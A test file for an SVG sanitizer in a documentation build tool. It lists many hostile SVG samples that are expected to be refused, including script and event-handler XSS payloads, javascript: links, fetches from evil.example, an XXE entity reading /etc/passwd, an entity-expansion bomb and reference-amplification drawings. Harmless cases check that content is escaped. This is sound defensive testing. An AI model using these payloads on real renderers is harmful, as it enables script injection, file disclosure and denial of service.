import { parse, serialize } from "parse5";
import { drawingToHtml, readDrawing } from "../../src/markdown/render/drawings/drawing";
import { findActiveDrawing } from "../../src/outputs/hosting/check-drawing";
import { drawsTooMuch } from "../../src/outputs/hosting/count-drawn";
import { compile } from "../support/compile";

/** Maximum CPU time for one hostile file. */
const MAX_CPU_MS = 2000;

const format = (source: string, label: string): string => {
  const drawing = readDrawing(source, label);
  return "problem" in drawing ? drawing.problem : drawingToHtml(drawing);
};

const SVG = "http://www.w3.org/2000/svg";
const svg = (inner: string, attributes = ""): string =>
  `<svg xmlns="${SVG}" viewBox="0 0 9 9"${attributes}>${inner}</svg>`;
const BOMB = `<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa">${"bcdefghij"
  .split("")
  .map((name, at) => `<!ENTITY ${name} "${`&${"abcdefghij"[at]};`.repeat(10)}">`)
  .join("")}]>`;

/** Drawings that are refused. */
const REFUSED: readonly (readonly [name: string, source: string])[] = [
  ["a script", svg("<script>x()</script>")],
  ["a script in capitals", svg("<SCRIPT>x()</SCRIPT>")],
  ["a script in mixed case", svg("<ScRiPt>x()</ScRiPt>")],
  ["a script that fetches", svg('<script href="//evil.example/x.js"/>')],
  [
    "a script with a prefix",
    `<s:svg xmlns:s="${SVG}" viewBox="0 0 9 9"><s:script>x()</s:script></s:svg>`,
  ],
  [
    "a script of HTML by prefix",
    svg('<h:script xmlns:h="http://www.w3.org/1999/xhtml">x()</h:script>'),
  ],
  ["a script after a slash", svg("<script/x>y()</script>")],
  ["a script in CDATA only opened", svg("<![CDATA[<script>x()</script>")],
  ["a handler after a slash", svg("<rect/onclick=x()>")],
  ["a handler after a slash, quoted", svg('<rect/onclick="x()"/>')],
  ["a handler without a space before it", svg('<rect x="1"onclick="x()"/>')],
  ["a handler behind a newline", svg('<rect\nonclick="x()"/>')],
  ["a handler behind a tab", svg('<rect\tonload="x()"/>')],
  ["a handler behind a form feed", svg('<rect\fonload="x()"/>')],
  ["a handler in capitals", svg('<rect ONCLICK="x()"/>')],
  ["a handler with spaces around its equals sign", svg('<rect onclick = "x()"/>')],
  ["a handler without quotes", svg("<rect onclick=x()/>")],
  ["a handler with a prefix", svg('<rect x:onclick="x()" xmlns:x="x"/>')],
  ["a handler on the root", svg("", ' onload="x()"')],
  ["onbegin of an animation", svg('<animate onbegin="x()" attributeName="x" dur="1s"/>')],
  ["animate of an href", svg('<animate attributeName="href" values="javascript:x()"/>')],
  ["set of an href", svg('<set attributeName="xlink:href" to="javascript:x()"/>')],
  ["animateTransform", svg('<animateTransform attributeName="transform" to="1"/>')],
  ["animateMotion", svg('<animateMotion path="M0 0"/>')],
  ["a link", svg('<a href="https://evil.example"><text>x</text></a>')],
  ["a link with xlink", svg('<a xlink:href="javascript:x()"><text>x</text></a>')],
  ["a link, its scheme as entities", svg('<a href="&#106;avascript:x()"><text>x</text></a>')],
  ["use of another file", svg('<use href="https://evil.example/x.svg#a"/>')],
  ["use of data", svg('<use href="data:image/svg+xml;base64,AAAA#a"/>')],
  ["use inside the file", svg('<use xlink:href="#a"/>')],
  ["an image", svg('<image href="https://evil.example/x.png"/>')],
  ["feImage", svg('<filter><feImage href="https://evil.example/x.png"/></filter>')],
  ["foreignObject", svg("<foreignObject><body/></foreignObject>")],
  ["foreignObject in small letters", svg("<foreignobject><p/></foreignobject>")],
  ["a frame", svg('<iframe src="https://evil.example"/>')],
  ["an object", svg('<object data="x"/>')],
  ["an embed", svg('<embed src="x"/>')],
  ["a refresh", svg('<meta http-equiv="refresh" content="0;url=https://evil.example"/>')],
  ["a form", svg('<form action="https://evil.example"><input/></form>')],
  ["a base", svg('<base href="https://evil.example/"/>')],
  ["a style sheet", svg('<link rel="stylesheet" href="https://evil.example/x.css"/>')],
  ["a style element", svg("<style>*{fill:url(https://evil.example)}</style>")],
  ["a style element with @import", svg('<style>@import "https://evil.example/x.css";</style>')],
  ["a style attribute", svg('<rect style="fill:url(//evil.example)"/>')],
  ["url() in fill", svg('<rect fill="url(https://evil.example/x.svg#a)"/>')],
  ["url() in capitals", svg('<rect fill="URL(//evil.example)"/>')],
  ["url() with an escape", svg('<rect fill="u\\72l(//evil.example)"/>')],
  ["image-set()", svg('<rect fill="image-set(//evil.example)"/>')],
  ["url() inside var()", svg('<rect fill="var(--a, url(//evil.example))"/>')],
  ["a cursor", svg('<rect cursor="url(//evil.example),auto"/>')],
  ["a filter", svg('<rect filter="url(//evil.example#f)"/>')],
  ["a mask", svg('<rect mask="url(//evil.example#f)"/>')],
  ["an id", svg('<rect id="content"/>')],
  ["a class", svg('<rect class="menu"/>')],
  ["a data attribute", svg('<rect data-switch="theme"/>')],
  ["a tab stop", svg('<rect tabindex="1"/>')],
  ["a root that is moved", svg("", ' transform="translate(-900,0)"')],
  ["a root with another name", "<html viewBox='0 0 1 1'/>"],
  ["a root in capitals", '<SVG viewBox="0 0 1 1"/>'],
  ["a root in HTML's namespace", '<svg xmlns="http://www.w3.org/1999/xhtml" viewBox="0 0 1 1"/>'],
  ["HTML after the root", `${svg("")}<script>x()</script>`],
  ["text after the root", `${svg("")} and more`],
  ["HTML before the root", `<p>x</p>${svg("")}`],
  ["two roots", svg("") + svg("")],
  ["a root inside", svg(svg(""))],
  ["no root", "<!-- nothing -->"],
  ["an empty file", ""],
  ["text only", "x"],
  ["an open root", `<svg viewBox="0 0 1 1">`],
  ["tags that cross", svg("<g><text></g></text>")],
  ["an attribute twice", svg('<rect x="1" x="2"/>')],
  ["an element in a title", svg("<title><rect/></title>")],
  ["HTML in a desc", svg("<desc><p>x</p></desc>")],
  ["an unknown entity", svg("<text>&evil;</text>")],
  [
    "an entity of a file",
    `<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd">]>${svg("<text>&x;</text>")}`,
  ],
  ["a bomb of entities", BOMB + svg("<text>&j;</text>")],
  ["a bomb of entities in an attribute", BOMB + svg('<rect x="&j;"/>')],
  ["a control character", svg("<text>\u0000</text>")],
  ["a control character by number", svg("<text>&#0;</text>")],
  ["8,000 levels", svg("<g>".repeat(8000) + "</g>".repeat(8000))],
  ["33 levels", svg("<g>".repeat(33) + "</g>".repeat(33))],
  ["a million shapes", svg("<g/>".repeat(1_000_000))],
  ["a million open tags", "<g>".repeat(1_000_000)],
  ["a value that is never closed", svg(`<rect x="${"(".repeat(50_000)}"/>`)],
  ["a value of half functions", svg(`<rect fill="${"var(".repeat(10_000)}"/>`)],
  ["a comment that HTML ends early", svg("<!-- --!><script>x()</script> -->")],
  ["no viewBox", `<svg xmlns="${SVG}"/>`],
  ["a viewBox of words", '<svg viewBox="a b c d"/>'],
  ["a viewBox of dots", '<svg viewBox="0 0 1.2.3 4..5"/>'],
  ["a viewBox without a size", '<svg viewBox="0 0 0 0"/>'],
  ["a viewBox of negative sides", '<svg viewBox="0 0 -9 9"/>'],
  ["an endless viewBox", `<svg viewBox="0 0 ${"9".repeat(400)} 1"/>`],
  ["a viewBox that is too large", '<svg viewBox="0 0 100001 1"/>'],
  ["xml:base", svg("", ' xml:base="https://evil.example/"')],
  ["a namespace on a shape", svg('<g xmlns="http://www.w3.org/1999/xhtml"/>')],
];

test.each(REFUSED)("%s is a fault with a position", (_, source) => {
  const start = process.cpuUsage();
  const { doc, html } = compile("Words.\n\n![A box](./a.svg)", {
    files: { "content/docs/a.svg": source },
  });
  const { user, system } = process.cpuUsage(start);
  expect(doc.faults).toMatchObject([
    { rule: "image/svg", file: "content/docs/page.md", line: 9, column: 1 },
  ]);
  expect(html).toBe("<p>Words.</p><p></p>");
  expect((user + system) / 1000).toBeLessThan(MAX_CPU_MS);
});

/** Drawings that are shown, each with the content that has to be kept. */
const HARMLESS: readonly (readonly [name: string, source: string, inner: string])[] = [
  [
    "markup in CDATA is text",
    svg("<text><![CDATA[<script>x()</script>]]></text>"),
    "<text>&lt;script>x()&lt;/script></text>",
  ],
  [
    "markup by entities is text",
    svg("<text>&lt;img onerror=x()&gt;</text>"),
    "<text>&lt;img onerror=x()></text>",
  ],
  ["markup by numbers is text", svg("<text>&#60;script&#62;</text>"), "<text>&lt;script></text>"],
  [
    "an end of the drawing in CDATA is text",
    svg("<text><![CDATA[</svg><script>]]></text>"),
    "<text>&lt;/svg>&lt;script></text>",
  ],
  [
    "a title's end in CDATA is text",
    svg("<title><![CDATA[</title><img src=x onerror=x()>]]></title>"),
    "<title>&lt;/title>&lt;img src=x onerror=x()></title>",
  ],
  ["a comment with markup is gone", svg("<!-- ><script>x()</script> --><g/>"), "<g/>"],
  [
    "a style sheet as an instruction is gone",
    `<?xml-stylesheet href="//evil.example/x.css"?>${svg("<g/>")}`,
    "<g/>",
  ],
  ["PHP is gone", svg("<?php x() ?><g/>"), "<g/>"],
  ["a document type with entities nobody uses is gone", BOMB + svg("<g/>"), "<g/>"],
  [
    "a handler's name in text stays text",
    svg("<text>onclick=x()</text>"),
    "<text>onclick=x()</text>",
  ],
];

test.each(HARMLESS)("%s", (_, source, inner) => {
  const drawing = format(source, 'A "box" <b>');
  const expected = `<svg role="img" aria-label="A &quot;box&quot; &lt;b>" viewBox="0 0 9 9">${inner}</svg>`;
  expect(drawing).toBe(expected);
  // When a browser parses the page, nothing escapes from the drawing.
  const body = serialize(parse(`<body><main>${expected}</main><footer>`));
  expect(body).toMatch(/<\/svg><\/main><footer><\/footer><\/body><\/html>$/);
});

test("every way to write a plain drawing has the same result", () => {
  const wanted = `<svg role="img" aria-label="x" viewBox="0 0 9 9"><g fill="var(--figure-ink)"><path d="M0 0h9"/><text x="1">a <tspan dy="1">b</tspan> &amp; c</text></g></svg>`;
  const inner = `<g fill="var(--figure-ink)"><path d="M0 0h9"/><text x="1">a <tspan dy="1">b</tspan> &amp; c</text></g>`;
  for (const source of [
    svg(inner),
    svg(inner.replaceAll('"', "'")),
    `\uFEFF<?xml version="1.0"?>\r\n<!DOCTYPE svg>\n${svg(`\n  ${inner}\n`, ' width="9" height="9" role="x"')}\n`,
    svg(inner.replace("/>", "></path>")),
  ]) {
    expect(format(source, "x")).toBe(wanted);
  }
});

test("a separate file that does anything by itself is reported", () => {
  const active = REFUSED.filter(([name]) =>
    /script|handler|onbegin|animat|set of|link|another file|of data|an image|feImage|foreignObject|frame|object|embed|refresh|style|url\(\) in (?:fill|cap)|entit|HTML (?:after|before)|two roots/.test(
      name,
    ),
  );
  const missed = active.filter(([, source]) => findActiveDrawing(source) === undefined);
  expect(active.length).toBeGreaterThan(40);
  expect(missed.map(([name]) => name)).toEqual([]);
  expect(
    findActiveDrawing(svg('<defs><linearGradient id="a"/></defs><rect fill="url(#a)"/>')),
  ).toBe(undefined);
});

test.each([
  ["links to", (address: string) => svg(`<use href="${address}"/>`)],
  ["fetches", (address: string) => svg(`<rect fill="url(${address})"/>`)],
  ["has the namespace", (address: string) => svg(`<g xmlns:x="${address}"/>`)],
])("a drawing that %s is reported, truncated if it is long", (problem, drawing) => {
  const told = findActiveDrawing(drawing(`https://evil.example/${"x".repeat(99)}`));
  const start = problem === "fetches" ? "url(https://evil.example/" : "https://evil.example/";
  expect(told).toBe(`${problem} "${start.padEnd(40, "x")}"`);
});

describe("references that multiply what is drawn", () => {
  const levels = (count: number, level: (id: number) => string) =>
    svg(`<rect id="e0"/>${Array.from({ length: count }, (_, index) => level(index + 1)).join("")}`);
  const useTwice = (id: number) =>
    `<g id="e${id}"><use href="#e${id - 1}"/><use xlink:href="#e${id - 1}"/></g>`;

  test.each([
    ["groups that each use the one before twice", levels(40, useTwice)],
    [
      "patterns filled with the pattern before",
      levels(
        40,
        (id) => `<pattern id="e${id}">${`<rect fill="url('#e${id - 1}')"/>`.repeat(2)}</pattern>`,
      ),
    ],
    ["a chain of references that is too long to follow", levels(50_000, useTwice)],
    [
      "one large group that is used often",
      svg(`<g id="a">${"<rect/>".repeat(1000)}</g>${'<use href="#a"/>'.repeat(200)}`),
    ],
  ])("%s are too many", (_, source) => {
    expect(drawsTooMuch(source)).toBe(true);
  });

  test.each([
    ["a few levels", levels(8, useTwice)],
    [
      "elements that refer to each other",
      svg('<g id="a"><use href="#b"/></g><g id="b"><use href="#a"/></g>'),
    ],
    ["a reference to nothing", svg('<use href="#missing"/>')],
    ["no XML", "<svg"],
  ])("%s: not too many", (_, source) => {
    expect(drawsTooMuch(source)).toBe(false);
  });
});
